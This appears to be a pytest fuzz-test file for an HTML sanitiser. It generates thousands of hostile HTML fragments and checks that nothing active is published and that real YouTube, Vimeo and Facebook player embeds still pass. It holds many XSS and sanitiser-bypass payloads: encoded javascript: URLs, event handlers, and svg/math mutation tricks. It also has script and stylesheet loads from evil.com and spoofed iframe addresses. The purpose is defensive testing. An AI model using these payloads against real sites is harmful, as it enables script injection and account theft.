"""Thousands of generated hostile bodies: the sanitiser lets no active content out.

Each fragment mixes tricks attackers use against HTML sanitisers: tags and
attributes in mixed case, ``javascript:`` hidden behind character references,
control characters and whitespace, ``<svg>``/``<math>`` namespace confusion,
unclosed and nested tags, comments, CDATA, ``srcdoc``, ``style`` with
``url()``, ``formaction``, and iframes whose address plays every URL trick
against each allowed video player. The output is read back by two parsers
(Python's, as BeautifulSoup uses it, and html5lib, which follows the WHATWG
rules browsers follow) and must hold nothing active. The seed is fixed, so a
failure names a fragment that fails again.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

import html5lib
import pytest
from bs4 import BeautifulSoup

from content_model.embeds import EMBED_PERMISSIONS, EMBED_SET_ATTRIBUTES
from content_model.html_safety import STYLE_PROPERTIES, HtmlPolicy, sanitize

SEED = 20261206
FRAGMENTS = 3000
POLICY = HtmlPolicy()
PLAYERS = [
    ("www.youtube.com", "/embed/"),
    ("youtube.com", "/embed/"),
    ("www.youtube-nocookie.com", "/embed/"),
    ("youtube-nocookie.com", "/embed/"),
    ("www.facebook.com", "/plugins/video.php"),
    ("facebook.com", "/plugins/video.php"),
    ("player.vimeo.com", "/video/"),
]
# A player address as we rebuild it, written without any parser: https, an
# allowed host, its player path, plain path segments (none starts with a dot,
# so no dot segment), and a query and fragment without whitespace, quotes,
# backslashes or angle brackets.
_HOSTS = "|".join(re.escape(host) for host, _ in PLAYERS)
_PLAYER_SRC = re.compile(
    rf"https://(?:{_HOSTS})(?:"
    r"(?:/embed|/video)(?:/[A-Za-z0-9_~-][A-Za-z0-9._~-]*)+/?|/plugins/video\.php)"
    r"(?:\?[A-Za-z0-9._~!$&'()*+,;=:@/?%-]*)?(?:#[A-Za-z0-9._~!$&'()*+,;=:@/?%-]*)?"
)
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "cite",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "srcset",
    "xlink:href",
    "longdesc",
    "ping",
}
HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle"]
HANDLERS += ["onanimationstart", "onbegin", "onpointerenter", "onauxclick"]


def mixed_case(rng: random.Random, text: str) -> str:
    """Return ``text`` with each letter's case chosen at random."""
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def reference(rng: random.Random, char: str) -> str:
    """Return ``char`` as one of its HTML character references."""
    code = ord(char)
    named = {"\t": "&Tab;", "\n": "&NewLine;", ":": "&colon;", "\\": "&bsol;"}
    forms = [f"&#{code};", f"&#x{code:x};", f"&#X{code:X};", f"&#000{code};"]
    if char in named:
        forms.append(named[char])
    return rng.choice(forms)


def hide(rng: random.Random, text: str, rate: float = 0.3) -> str:
    """Entity-encode some characters and slip tabs and newlines in between.

    A browser decodes the references and drops tabs and newlines from a URL,
    so it still reads ``text``.
    """
    out = []
    for char in text:
        if rng.random() < rate:
            out.append(reference(rng, char))
        else:
            out.append(char)
        if char.isalpha() and rng.random() < 0.15:
            out.append(rng.choice(["\t", "\n", "\r", "&#9;", "&#10;", "&Tab;"]))
    return "".join(out)


def script_url(rng: random.Random) -> str:
    """Return an address a browser runs or renders as a document."""
    scheme = rng.choice(["javascript", "javascript", "vbscript", "data"])
    body = {
        "javascript": "alert(document.domain)",
        "vbscript": "msgbox(1)",
        "data": rng.choice(
            ["text/html,<script>alert(1)</script>", "image/svg+xml;base64,PHN2Zz4="]
        ),
    }[scheme]
    lead = "".join(rng.choice([" ", "\x01", "\x1f", "&#32;", "&#x0c;"]) for _ in
                   range(rng.randint(0, 3)))  # fmt: skip
    return lead + hide(rng, mixed_case(rng, scheme) + ":") + body


def player(rng: random.Random) -> tuple[str, str]:
    """Return an allowed player's (host, path) with a video id."""
    host, path = rng.choice(PLAYERS)
    return host, path + ("x1" if path.endswith("/") else "")


def url_trick(rng: random.Random) -> str:
    """Return an iframe address that must not pass as a player."""
    host, path = player(rng)
    tricks = [
        f"https://evil.com\\@{host}{path}",
        f"https://evil.com&#92;@{host}{path}",
        f"https://evil.com&bsol;@{host}{path}",
        f"https://evil.com%5C@{host}{path}",
        f"https:\\\\evil.com\\{host}{path}",
        f"https://{host}@evil.com{path}",
        f"https://user:pass@{host}{path}",
        f"https://{host}:443{path}",
        f"https://{host}:8080{path}",
        f"https://{host}{path}/../../redirect?q=https://evil.com",
        f"https://{host}{path}/%2e%2e/%2E%2E/login.php",
        f"https://{host}{path}/.%2e/x",
        f"https://{host}{path}%2F..%2F..%2Flogin",
        f"https://{host}{path}/..\\..\\login",
        f"https://{host}/x/..{path}",  # reads as the player, written otherwise
        f"https://{host}{path}//evil.com",
        f"https://{host}.{path}",
        f"https://{host}.evil.com{path}",
        f"https://evil{host}{path}",
        f"https://{host.replace('o', 'о', 1)}{path}",  # Cyrillic o
        f"https://{host.replace('e', 'е', 1)}{path}",  # Cyrillic e
        f"https://{host.replace('w', 'ｗ', 1)}{path}",  # full-width w
        f"https://{host.upper().replace('.', '。', 1)}{path}",  # ideographic stop
        f"//{host}{path}",
        f"http://{host}{path}",
        f"https:/{host}{path}",
        f"https:{host}{path}",
        f" https://{host}{path}",
        f"https://{host}{path} ",
        f"\x01https://{host}{path}",
        f"&#1;https://{host}{path}",
        f"https://{host}{path[:3]}\t{path[3:]}",
        f"https://{host}{path[:3]}&#10;{path[3:]}",
        f"https://{host}%2F{path[1:]}",
        f"javascript://{host}{path}%0aalert(1)",
        f"https://[::1]{path}",
        f"https://127.0.0.1{path}",
        f"{script_url(rng)}//{host}{path}",
    ]
    if not path.endswith("/x1"):
        tricks += [f"https://{host}{path}/x", f"https://{host}{path}x"]
    trick = rng.choice(tricks)
    return trick + rng.choice(["", "", "?autoplay=1", "#t=1", "#@evil.com"])


def quoted(rng: random.Random, value: str) -> str:
    """Return an attribute value quoted one of the ways HTML allows.

    One in twenty is closed by the other quote, so that it runs on and
    swallows the markup after it.
    """
    if rng.random() < 0.2 and not re.search(r"[\s\"'=<>`]", value):
        return value
    quote = rng.choice(['"', "'"])
    value = value.replace(quote, "&#39;" if quote == "'" else "&quot;")
    close = quote if rng.random() < 0.95 else ({"'": '"', '"': "'"}[quote])
    return quote + value + close


def separator(rng: random.Random) -> str:
    """Return what may stand between a tag name and an attribute."""
    return rng.choice([" ", "  ", "\n", "\t", "/", " /"])


def tag(rng: random.Random, name: str, attributes: list[tuple[str, str]]) -> str:
    """Return a start tag with mixed-case names and varied quoting."""
    parts = [mixed_case(rng, name)]
    for attribute, value in attributes:
        parts.append(separator(rng) + mixed_case(rng, attribute))
        parts.append("=" + quoted(rng, value))
    return "<" + "".join(parts) + rng.choice([">", " >", "/>"])


def hostile_iframe(rng: random.Random) -> str:
    """Return an iframe whose address or attributes are not allowed."""
    attributes = [("src", url_trick(rng))]
    if rng.random() < 0.3:
        attributes.append(("allow", "camera; microphone; geolocation; autoplay"))
    if rng.random() < 0.2:
        attributes.append(("srcdoc", "&lt;script&gt;alert(1)&lt;/script&gt;"))
    if rng.random() < 0.2:
        attributes.append(("sandbox", "allow-scripts allow-top-navigation"))
    if rng.random() < 0.2:
        attributes.append((rng.choice(HANDLERS), "alert(1)"))
    return tag(rng, "iframe", attributes) + rng.choice(["</iframe>", ""])


def hostile_link(rng: random.Random) -> str:
    """Return an element carrying a script address in a URL attribute."""
    name, attribute = rng.choice(
        [
            ("a", "href"),
            ("img", "src"),
            ("area", "href"),
            ("form", "action"),
            ("button", "formaction"),
            ("input", "formaction"),
            ("video", "poster"),
            ("table", "background"),
            ("blockquote", "cite"),
            ("object", "data"),
            ("embed", "src"),
            ("base", "href"),
            ("link", "href"),
            ("iframe", "src"),
            ("frame", "src"),
        ]
    )
    markup = tag(rng, name, [(attribute, script_url(rng))]) + "x"
    if rng.random() < 0.3:
        markup = "<svg>" + markup + "</svg>"
    return markup + rng.choice([f"</{name}>", ""])


def hostile_handler(rng: random.Random) -> str:
    """Return an element with an event handler attribute."""
    name = rng.choice(["img", "p", "a", "svg", "details", "body", "video", "math"])
    handler = rng.choice(HANDLERS)
    attributes = [("src", "x")] if name in {"img", "video"} else []
    attributes.append((handler, hide(rng, "alert(1)", 0.2)))
    return tag(rng, name, attributes) + "x"


FIXED = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=//evil.com/x.js></script>",
    "<SCRIPT SRC=//evil.com/x.js?<B>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=1 y=1>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<td style='text-align:left;background:url(javascript:alert(1))'>x</td>",
    "<p style='x:expression(alert(1))'>x</p>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.com/x.css>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<img src=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" alt="`"onerror=alert(1)>',
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#x20;javascript:alert(1)'>x</a>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<portal src=https://evil.com></portal>",
    "<plaintext><script>alert(1)</script>",
    "<javascript:alert(29)>",
    "<x:y(1) onclick=alert(1)>",
    "<p\n(click)=x\n@click=alert(1)>x</p>",
]


def fragments() -> Iterator[str]:
    """Yield hostile HTML fragments (some of which a browser would not run)."""
    rng = random.Random(SEED)
    yield from FIXED
    makers = [hostile_iframe, hostile_link, hostile_handler, lambda r: r.choice(FIXED)]
    wrappers = [
        "{}",
        "<p>{}</p>",
        "<p>{}",
        "<table><tr><td>{}</td></tr></table>",
        "<table>{}</table>",
        "<svg>{}</svg>",
        "<math>{}</math>",
        "<a href='/a'>{}</a>",
        "<b><i>{}</b></i>",
        "<!--{}",
        "<![CDATA[{}]]>",
        "<div>{}<!-- x -->",
    ]
    for _ in range(FRAGMENTS):
        parts = [rng.choice(makers)(rng) for _ in range(rng.randint(1, 3))]
        if rng.random() < 0.1:  # percent-encoded schemes stay relative: harmless
            parts.append(tag(rng, "a", [("href", "javascript%3Aalert(1)")]) + "x</a>")
        if rng.random() < 0.2:  # a real player among the tricks
            host, path = player(rng)
            parts.append(tag(rng, "iframe", [("src", f"https://{host}{path}")]))
        yield rng.choice(wrappers).format("".join(parts))


def elements(html: str, python: bool = True) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield (name, attributes) of every element, as html5lib reads it (as
    browsers do) and, if ``python``, as BeautifulSoup's html.parser reads it."""
    if python:
        for element in BeautifulSoup(html, "html.parser").find_all(True):
            yield (
                element.name,
                {
                    k: " ".join(v) if isinstance(v, list) else v
                    for k, v in element.attrs.items()
                },
            )
    tree = html5lib.parseFragment(
        html, treebuilder="etree", namespaceHTMLElements=False
    )
    for element in tree.iter():
        if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT":
            yield element.tag, dict(element.attrib)
        elif not isinstance(element.tag, str):  # a comment
            yield "#comment", {}


def scheme(url: str) -> str | None:
    """Return the scheme a browser reads in ``url`` (decoded), or None if relative."""
    url = re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07"
                                          "\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10"
                                          "\x11\x12\x13\x14\x15\x16\x17\x18\x19"
                                          "\x1a\x1b\x1c\x1d\x1e\x1f "))  # fmt: skip
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def unsafe_parts(html: str, published: bool = True) -> list[str]:
    """Return every active or foreign part of HTML (none expected once published).

    Published HTML is read by both parsers and must not even spell a comment
    or a script tag; a post's source is read as a browser reads it.
    """
    found = []
    for name, attributes in elements(html, python=published):
        if name == "#comment" and not published:
            continue
        if name not in POLICY.tags:
            found.append(f"element <{name}>")
            continue
        for attribute, value in attributes.items():
            allowed = POLICY.allows_attribute(name, attribute) or (
                name == "iframe" and attribute in EMBED_SET_ATTRIBUTES
            )
            if attribute.lower().startswith("on") or not allowed:
                found.append(f"attribute {attribute} on <{name}>")
            elif attribute == "style":
                properties = {p.split(":")[0].strip() for p in value.split(";")}
                if not properties <= STYLE_PROPERTIES | {""} or "(" in value:
                    found.append(f'style "{value}"')
            elif name == "iframe" and attribute == "src":
                if not _PLAYER_SRC.fullmatch(value):
                    found.append(f'iframe src "{value}"')
            elif attribute in URL_ATTRIBUTES and scheme(value) not in (
                SAFE_SCHEMES | {None}
            ):
                found.append(f'{attribute}="{value}" on <{name}>')
            elif name == "iframe" and attribute in EMBED_SET_ATTRIBUTES:
                if value != EMBED_SET_ATTRIBUTES[attribute]:
                    found.append(f'iframe {attribute}="{value}"')
            elif name == "iframe" and attribute == "allow":
                features = {f.strip() for f in value.split(";")}
                if not features <= EMBED_PERMISSIONS:
                    found.append(f'iframe allow="{value}"')
    if published and re.search(r"<!--|<!\[CDATA\[|<\s*(script|style)", html, re.I):
        found.append("raw markup")
    return found


@pytest.fixture(scope="module")
def results() -> list[tuple[str, str, list]]:
    """Sanitise every fragment once: (fragment, published HTML, problems).

    Each fragment stands after a few lines of plain text, and each problem's
    line is given relative to the fragment's first line.
    """
    rng = random.Random(SEED)
    out = []
    for fragment in fragments():
        before = rng.randint(0, 4)
        body = "Đoạn văn.\n" * before + fragment + "\n\nĐoạn cuối."
        html, problems = sanitize(body, body, 1, POLICY)
        out.append(
            (fragment, html, [(line - 1 - before, text) for line, text in problems])
        )
    return out


def test_enough_fragments_are_generated(results):
    assert len(results) >= FRAGMENTS
    assert len({fragment for fragment, _, _ in results}) > FRAGMENTS * 0.9


def test_no_active_content_is_ever_published(results):
    failures = [
        (fragment, html, parts)
        for fragment, html, _ in results
        if (parts := unsafe_parts(html))
    ]
    assert failures == [], f"{len(failures)} unsafe outputs, first: {failures[:3]}"


def test_every_fragment_a_browser_would_run_is_reported_to_the_writer(results):
    active = [
        (fragment, problems)
        for fragment, _, problems in results
        if unsafe_parts(fragment, published=False)
    ]
    silent = [fragment for fragment, problems in active if not problems]
    assert len(active) > FRAGMENTS * 0.8
    assert silent == [], f"{len(silent)} not reported, first: {silent[:5]}"


def test_each_problem_is_at_a_line_of_its_fragment(results):
    misplaced = [
        (fragment, problems)
        for fragment, _, problems in results
        if not all(0 <= line <= fragment.count("\n") for line, _ in problems)
    ]
    assert misplaced == [], f"{len(misplaced)} misplaced, first: {misplaced[:3]}"


def test_real_players_still_pass_among_the_tricks(results):
    kept = [
        src
        for _, html, _ in results
        if "<iframe" in html
        for name, attributes in elements(html, python=False)
        if name == "iframe" and (src := attributes.get("src"))
    ]
    assert len(kept) > 100
    assert all(_PLAYER_SRC.fullmatch(src) for src in kept)
